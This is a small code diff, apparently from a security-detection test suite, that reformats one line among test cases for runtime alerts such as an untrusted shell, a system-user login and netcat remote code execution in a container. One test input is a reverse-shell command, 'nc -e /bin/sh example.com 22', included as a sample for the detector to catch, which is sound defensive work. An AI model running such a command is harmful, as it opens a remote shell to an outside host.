@@ -5,7 +5,8 @@ extension PublicAct {
             "Run shell untrusted", action: "RunShellUntrusted", [.process(.init("httpd")), .shell("ls >/dev/null")],
             butNot: [.process(.init("worker")), .shell("ls >/dev/null")]),
         .host(
-            "System user interactive", action: "SystemUserInteractive", [.run(.init("login", user: 1))], butNot: [.run(.init("login", user: 0))]),
+            "System user interactive", action: "SystemUserInteractive", [.run(.init("login", user: 1))],
+            butNot: [.run(.init("login", user: 0))]),
         .container(
             "Netcat Remote Code Execution in Container", action: "NetcatRemoteCodeExecutionInContainer",
             [.run(.init("nc", "-e", "/bin/sh", "example.com", "22"))], butNot: [.run(.init("nc", "example.com", "22"))]),
